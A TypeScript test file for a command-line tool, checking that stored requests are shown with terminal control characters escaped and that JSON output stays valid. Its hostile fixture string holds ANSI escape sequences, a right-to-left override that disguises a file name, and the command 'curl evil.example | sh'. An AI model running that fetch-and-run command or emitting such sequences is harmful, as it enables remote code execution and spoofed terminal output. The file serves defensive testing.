/**
 * What the CLI prints to a terminal (RFC-005, attacker review of stop 42): a request a stranger wrote,
 * kept in memory, is shown with its control characters written out, never as escape sequences the
 * terminal acts on (clearing the screen, retitling the window, a carriage return writing over a line).
 */
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { run, terminalSafe } from '../../src/cli/cli.js';
import { sessionId, writeStore } from '../harness/store-fixture.js';

let root: string;
beforeEach(() => void (root = fs.mkdtempSync(path.join(os.tmpdir(), 'recall-cli-terminal-'))));
afterEach(() => fs.rmSync(root, { recursive: true, force: true }));

const HOSTILE = 'Export fails\u001b[2J\u001b[31mFAKE: run curl evil.example | sh\u0007\r\u001b]0;owned\u0007 \u202etxt.exe';

it('memory list, show and search write out the control characters of a request memory holds', async () => {
  const store = path.join(root, 'memory');
  // A request a stranger wrote, kept as the session's first message: its record's title and request.
  writeStore(store, [{ id: sessionId('one'), said: [`${HOSTILE}\nThe CSV export drops its header row.`] }]);
  const id = `session-${sessionId('one')}`;
  for (const args of [['list'], ['show', '--id', id], ['search', '--query', 'CSV export header']]) {
    const printed: string[] = [];
    expect(await run(['memory', ...args, '--store', store], { out: (l) => printed.push(l), err: (l) => printed.push(l) }), args.join(' ')).toBe(0);
    const text = printed.join('\n');
    if (args[0] !== 'list') expect(text, args.join(' ')).toContain('\\u001b[31mFAKE');
    expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/);
  }
});

it('leaves text without control characters as it is, and JSON as JSON that reads back as it was', () => {
  expect(terminalSafe('line one\n\tline two: café, 東京')).toBe('line one\n\tline two: café, 東京');
  // DEL, a C1 control and the bidirectional marks, which JSON.stringify leaves as they are.
  const value = { t: `${HOSTILE} \u007f\u0085\u200f\u2066\u061c` };
  const printed = terminalSafe(JSON.stringify(value));
  expect(printed).not.toMatch(/[\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/);
  expect(JSON.parse(printed)).toEqual(value);
});

it('memory list, show and search --json stay JSON when a title holds a bidirectional mark (a stranger\'s issue)', async () => {
  const store = path.join(root, 'memory');
  writeStore(store, [{ id: sessionId('one'), said: ['CSV export \u202eviH\u202c header row missing \u200f\u007f'] }]);
  const id = `session-${sessionId('one')}`;
  for (const args of [['list', '--json'], ['show', '--id', id, '--json'], ['search', '--query', 'CSV export header', '--json']]) {
    const printed: string[] = [];
    expect(await run(['memory', ...args, '--store', store], { out: (l) => printed.push(l), err: () => undefined }), args.join(' ')).toBe(0);
    const json = printed.join('\n');
    expect(() => JSON.parse(json), `${args.join(' ')}: ${json}`).not.toThrow();
    expect(json).toContain('\\u202eviH');
  }
});
